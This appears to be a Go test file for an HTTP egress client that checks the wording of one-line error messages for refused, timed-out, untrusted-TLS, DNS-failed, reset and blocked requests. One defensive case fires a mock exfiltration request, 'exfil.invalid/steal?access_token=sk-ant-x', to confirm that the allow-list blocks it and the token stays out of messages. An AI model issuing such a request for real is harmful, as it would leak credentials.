package egress

import (
	"context"
	"crypto/tls"
	"errors"
	"io"
	"log"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/aimonitor/aimonitor/internal/loopback"
)

// loopbackClient is the egress client with an override naming base.
func loopbackClient(t *testing.T, base string, opts ...Option) *http.Client {
	t.Helper()
	p, err := PolicyFromOverrides(base, "", "")
	if err != nil {
		t.Fatal(err)
	}
	return NewClient(p, opts...)
}

// readRequest consumes the request head so the client is waiting for the answer.
func readRequest(c net.Conn) {
	buf := make([]byte, 4096)
	var got []byte
	for !strings.Contains(string(got), "\r\n\r\n") {
		n, err := c.Read(buf)
		if err != nil {
			return
		}
		got = append(got, buf[:n]...)
	}
}

type dnsFailure struct{}

func (dnsFailure) LookupNetIP(_ context.Context, _, host string) ([]netip.Addr, error) {
	return nil, &net.DNSError{Err: "server misbehaving", Name: host, Server: "127.0.0.53:53", IsTemporary: true}
}

type noAddresses struct{}

func (noAddresses) LookupNetIP(context.Context, string, string) ([]netip.Addr, error) {
	return nil, nil
}

// attempt is one real request and the explained error it ended in.
type attempt struct {
	err  *NoAnswerError
	host string
}

func get(t *testing.T, c *http.Client, ctx context.Context, rawURL string) attempt {
	t.Helper()
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, rawURL, nil)
	if err != nil {
		t.Fatal(err)
	}
	start := time.Now()
	resp, err := c.Do(req)
	if err != nil {
		return attempt{Unreachable(req, time.Since(start), err), req.URL.Host}
	}
	defer resp.Body.Close()
	if _, err := io.ReadAll(resp.Body); err != nil {
		return attempt{Interrupted(req, time.Since(start), err), req.URL.Host}
	}
	t.Fatalf("GET %s succeeded", rawURL)
	return attempt{}
}

func shortCtx(t *testing.T) context.Context {
	ctx, cancel := context.WithTimeout(context.Background(), 200*time.Millisecond)
	t.Cleanup(cancel)
	return ctx
}

// Every way a request can get no answer reads as one sentence naming the
// host, and the transport's error is still there for errors.Is/As.
func TestNoAnswerMessages(t *testing.T) {
	cases := []struct {
		name string
		do   func(t *testing.T) attempt
		// want is the whole message; {host} is the request's host[:port],
		// {s} how long it waited.
		want string
		is   func(error) bool
	}{
		{
			name: "connection refused",
			do: func(t *testing.T) attempt {
				base := "http://" + loopback.ClosedAddr(t)
				return get(t, loopbackClient(t, base), context.Background(), base+"/api/oauth/usage")
			},
			want: "could not reach {host}: the connection was refused — check your network or firewall",
			is:   func(err error) bool { return errors.Is(err, syscall.ECONNREFUSED) },
		},
		{
			name: "no answer before the context deadline",
			do: func(t *testing.T) attempt {
				base := "http://" + loopback.Silent(t)
				return get(t, loopbackClient(t, base), shortCtx(t), base+"/api/oauth/usage")
			},
			want: "could not reach {host}: no answer within {s} — check your network, or try again later",
			is:   func(err error) bool { return errors.Is(err, context.DeadlineExceeded) },
		},
		{
			name: "no answer before the client timeout",
			do: func(t *testing.T) attempt {
				base := "http://" + loopback.Silent(t)
				return get(t, loopbackClient(t, base, WithTimeout(200*time.Millisecond)), context.Background(), base+"/x")
			},
			want: "could not reach {host}: no answer within {s} — check your network, or try again later",
			is: func(err error) bool {
				var ne net.Error
				return errors.As(err, &ne) && ne.Timeout()
			},
		},
		{
			name: "untrusted certificate",
			do: func(t *testing.T) attempt {
				srv := httptest.NewUnstartedServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) {
					t.Error("the request got past an untrusted certificate")
				}))
				srv.Config.ErrorLog = log.New(io.Discard, "", 0) // the refused handshake is expected
				srv.StartTLS()
				t.Cleanup(srv.Close)
				return get(t, loopbackClient(t, srv.URL), context.Background(), srv.URL+"/x")
			},
			want: "could not reach {host}: its certificate is not trusted — something on your network may be intercepting secure connections",
			is: func(err error) bool {
				var ce *tls.CertificateVerificationError
				return errors.As(err, &ce)
			},
		},
		{
			name: "name not resolved",
			do: func(t *testing.T) attempt {
				c := NewClient(DefaultPolicy(), WithResolver(dnsFailure{}))
				return get(t, c, context.Background(), "https://api.anthropic.com/api/oauth/usage")
			},
			want: "could not reach {host}: the name could not be looked up — are you offline?",
			is: func(err error) bool {
				var de *net.DNSError
				return errors.As(err, &de) && de.Name == "api.anthropic.com"
			},
		},
		{
			name: "name resolves to nothing",
			do: func(t *testing.T) attempt {
				c := NewClient(DefaultPolicy(), WithResolver(noAddresses{}))
				return get(t, c, context.Background(), "https://platform.claude.com/v1/oauth/token")
			},
			want: "could not reach {host}: the name could not be looked up — are you offline?",
			is: func(err error) bool {
				var de *net.DNSError
				return errors.As(err, &de)
			},
		},
		{
			name: "connection reset",
			do: func(t *testing.T) attempt {
				addr := loopback.Serve(t, func(c net.Conn) {
					readRequest(c)
					c.(*net.TCPConn).SetLinger(0) // close with RST
					c.Close()
				})
				base := "http://" + addr
				return get(t, loopbackClient(t, base), context.Background(), base+"/x")
			},
			want: "could not reach {host}: the connection was cut off — try again later",
			is: func(err error) bool {
				return errors.Is(err, syscall.ECONNRESET) || errors.Is(err, io.EOF)
			},
		},
		{
			name: "answer cut short",
			do: func(t *testing.T) attempt {
				addr := loopback.Serve(t, func(c net.Conn) {
					readRequest(c)
					io.WriteString(c, "HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\n{\"five_hour\":")
					c.Close()
				})
				base := "http://" + addr
				return get(t, loopbackClient(t, base), context.Background(), base+"/x")
			},
			want: "the answer from {host} broke off: the connection was cut off — try again later",
			is:   func(err error) bool { return errors.Is(err, io.ErrUnexpectedEOF) },
		},
		{
			name: "answer stalls past the deadline",
			do: func(t *testing.T) attempt {
				done := make(chan struct{})
				t.Cleanup(func() { close(done) })
				addr := loopback.Serve(t, func(c net.Conn) {
					readRequest(c)
					io.WriteString(c, "HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\n{")
					<-done
					c.Close()
				})
				base := "http://" + addr
				return get(t, loopbackClient(t, base), shortCtx(t), base+"/x")
			},
			want: "the answer from {host} broke off: it did not finish within {s} — check your network, or try again later",
			is:   func(err error) bool { return errors.Is(err, context.DeadlineExceeded) },
		},
		{
			name: "cancelled",
			do: func(t *testing.T) attempt {
				base := "http://" + loopback.Silent(t)
				ctx, cancel := context.WithCancel(context.Background())
				time.AfterFunc(50*time.Millisecond, cancel)
				return get(t, loopbackClient(t, base), ctx, base+"/x")
			},
			want: "could not reach {host}: the request was cancelled",
			is:   func(err error) bool { return errors.Is(err, context.Canceled) },
		},
		{
			name: "network unreachable",
			do: func(t *testing.T) attempt {
				unreachable := func(context.Context, string, string) (net.Conn, error) {
					return nil, &net.OpError{Op: "dial", Net: "tcp", Err: os.NewSyscallError("connect", syscall.ENETUNREACH)}
				}
				base := "http://127.0.0.1:9"
				return get(t, loopbackClient(t, base, WithDialFunc(unreachable)), context.Background(), base+"/x")
			},
			want: "could not reach {host}: the network is unreachable — are you offline?",
			is:   func(err error) bool { return errors.Is(err, syscall.ENETUNREACH) },
		},
		{
			name: "anything else keeps its innermost words, on one line",
			do: func(t *testing.T) attempt {
				odd := func(context.Context, string, string) (net.Conn, error) {
					return nil, &net.OpError{Op: "dial", Net: "tcp", Err: errors.Join(errors.New("something odd"), errors.New("and more"))}
				}
				base := "http://127.0.0.1:9"
				return get(t, loopbackClient(t, base, WithDialFunc(odd)), context.Background(), base+"/x")
			},
			want: "could not reach {host}: the connection failed (something odd) — check your network",
			is:   func(err error) bool { return err != nil },
		},
		{
			name: "egress refusal keeps naming the host",
			do: func(t *testing.T) attempt {
				return get(t, NewClient(DefaultPolicy()), context.Background(), "https://exfil.invalid/steal?access_token=sk-ant-x")
			},
			want: `egress: host "exfil.invalid" is not allowed (only api.anthropic.com, platform.claude.com, api.github.com, or loopback for test overrides)`,
			is:   func(err error) bool { return errors.Is(err, ErrNotAllowed) },
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			a := tc.do(t)
			if a.err == nil {
				t.Fatal("no error")
			}
			want := strings.NewReplacer("{host}", a.host, "{s}", seconds(a.err.Waited)).Replace(tc.want)
			if got := a.err.Error(); got != want {
				t.Errorf("message\n got %q\nwant %q\n(from %v)", got, want, a.err.Err)
			}
			if !tc.is(a.err) {
				t.Errorf("errors.Is/As no longer sees the cause: %#v", a.err.Err)
			}
			for _, goWords := range []string{`Get "`, "dial tcp", "http://", "https://", "/steal", "access_token", "deadline exceeded", "\n", "sk-ant-"} {
				if strings.Contains(a.err.Error(), goWords) {
					t.Errorf("message %q shows %q", a.err.Error(), goWords)
				}
			}
		})
	}
}

func TestSeconds(t *testing.T) {
	for d, want := range map[time.Duration]string{
		30*time.Second + 4*time.Millisecond:   "30 s",
		29*time.Second + 600*time.Millisecond: "30 s",
		2500 * time.Millisecond:               "2.5 s",
		2 * time.Second:                       "2 s",
		203 * time.Millisecond:                "0.2 s",
		0:                                     "0.1 s",
	} {
		if got := seconds(d); got != want {
			t.Errorf("seconds(%v) = %q, want %q", d, got, want)
		}
	}
}
